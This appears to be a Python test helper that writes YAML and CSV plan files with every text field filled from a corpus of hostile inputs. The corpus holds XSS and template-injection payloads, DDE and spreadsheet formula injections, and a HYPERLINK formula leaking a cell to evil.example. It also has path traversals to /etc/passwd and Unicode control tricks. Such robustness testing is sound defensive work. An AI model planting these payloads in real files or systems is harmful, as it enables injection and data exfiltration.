"""Plans in which every text field of every record holds a text that tries to be more than text.

The plan is made from the declarations, so the tables that a later rule declares are in it without a change here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

from ruamel.yaml import YAML

from rdlib.plan.fields import Kind, fields_of
from rdlib.plan.parts import PARTS
from rdlib.plan.plan import Plan
from rdlib.plan.priority import Priority
from rdlib.rules.registry import exercises

#: Texts by what they try; a field gets the next one of its class.
CORPUS: dict[str, tuple[str, ...]] = {
    "markup": (
        '"><script>alert(1)</script>',
        "<img src=x onerror=alert(1)>",
        "</td></table></section></main></style></title><iframe src='//evil.example/'></iframe>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
        "]]></text></svg><foreignObject><body onload=alert(1)>",
        "' onmouseover='alert(1)' x='",
        "<!-- <math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
        "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
        "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>",
    ),
    "formula": (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "#REF!",
        "{=1+1}",
        '=DDE("cmd";"/C calc";"!A0")',
    ),
    "path": (
        "../../../../../../tmp/rdlib-hostile",
        "/etc/passwd",
        "..\\..\\windows\\system32\\drivers",
        "C:\\Windows\\win.ini",
        "file:///etc/passwd",
        "con",
        "a/../../b",
        "%2e%2e%2f%2e%2e%2fx",
        "\\\\evil.example\\share",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/x?a=<b>&c=\"d'",
    ),
    "markdown": (
        "# Heading\n\n- list\n- of things\n\n```\ncode\n```",
        "[link](javascript:alert(1)) ![picture](http://evil.example/x.png)",
        "$$\\input{/etc/passwd}$$ $\\href{javascript:alert(1)}{x}$ \\(x\\)",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "<details open><summary>x</summary></details>",
        "BEGIN:VEVENT\r\nSUMMARY:second\r\nEND:VEVENT\r\nATTACH:http://evil.example/",
        "@import url(http://evil.example/x.css); } body { background: url(http://evil.example/) }",
        "%matplotlib inline\n!touch rdlib-hostile\n__import__('os').system('touch rdlib-hostile')",
    ),
    "signs": (
        "\u202eevil\u202c \u2066x\u2069 \u200f\u200e \ufeff\u200b",
        "nul\x00 bell\x07 escape\x1b[31m del\x7f c1\x85\x9f \x0b\x0c",
        "\ufffe\uffff \ufdd0",
        "zalgo\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 3,
        "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇫🇷 𝕳𝖊𝖑𝖑𝖔 ﷽",
        "漢字 العربية עברית ไทย हिन्दी",
        "_x0041_ _x000D_",
        "\u2028line\u2029paragraph",
        "   ",
    ),
    "long": ("x" * 400, "word " * 100, "W" * 120 + " " + "i" * 120, "é" * 600),
}


def make_hostile_plan(folder: Path, texts: tuple[str, ...]) -> Path:
    """Write a plan with one priority, ``waits``, in which every text is hostile; return its folder."""
    supply = cycle(texts)
    exercises()  # reading the rules declares their parts
    (folder / "priorities").mkdir(parents=True)
    (folder / "data").mkdir()
    plan = _filled(Plan, supply, {"order"})
    plan |= {"schema": 2, "language": "en", "mandate_start": "2016-01-01", "mandate_end": "2020-12-31"}
    priority = _filled(Priority, supply, set())
    for (owner, key), part in PARTS.items():
        if owner == "plan":
            plan[key] = _rows(part.record, supply)
        elif not part.kept:
            priority[key] = _rows(part.record, supply)
    for indicator in priority["indicators"]:
        indicator["data_files"] = ["data/waits.csv"]
    _write(folder / "plan.yaml", plan)
    _write(folder / "priorities" / "waits.yaml", priority)
    with (folder / "data" / "waits.csv").open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["when", "value", "note", "unit<b>"])
        for year in range(2006, 2017):
            for place in ("", _line(supply), _line(supply)):
                rows.writerow([year, 60 + year % 7, _line(supply), place])
    return folder


def _line(supply: Iterator[str]) -> str:
    return next(supply).replace("\x00", " ")[:300]


def _filled(record: type, supply: Iterator[str], leave: set[str]) -> dict[str, Any]:
    return {
        field.name: value
        for field in fields_of(record)
        if field.name not in leave and (value := _value(field, supply)) is not None
    }


def _rows(record: type, supply: Iterator[str]) -> list[dict[str, Any]]:
    return [{**_filled(record, supply, set()), "id": f"x{n}"} for n in (1, 2)]


def _value(field: Any, supply: Iterator[str]) -> Any:
    kind = field.kind
    if kind in {Kind.TEXT, Kind.LONG_TEXT, Kind.PERSON}:
        return next(supply)
    if kind in {Kind.TEXTS, Kind.PEOPLE}:
        return [next(supply), next(supply)]
    if kind in {Kind.CHOICE, Kind.RATING}:
        return field.choices[len(field.choices) // 2].value if field.choices else 2
    if kind is Kind.RECORD:
        return _filled(field.record, supply, set())
    if kind is Kind.RECORDS:
        return None if field.name == "observations" else _rows(field.record, supply)
    link = "x1/x2" if "/" in (field.links_to or "") and (field.links_to or "").split("/")[0] == "chains" else "x2"
    simple: dict[Kind, Any] = {
        Kind.NUMBER: max(2, field.low or 0) if field.high is None or field.high >= 2 else field.high,
        Kind.WHEN: "2018",
        Kind.DAY: "2018-05-20",
        Kind.YES_NO: "yes",
        Kind.LINK: "waits" if field.links_to == "priorities" else link,
        Kind.LINKS: ["waits"] if field.links_to == "priorities" else [link],
    }
    return simple.get(kind)


def _write(path: Path, content: dict[str, Any]) -> None:
    yaml = YAML(typ="safe", pure=True)
    yaml.allow_unicode = False  # what a text editor could not show stands as an escape
    yaml.default_flow_style = False
    with path.open("w", encoding="utf-8") as file:
        yaml.dump(content, file)
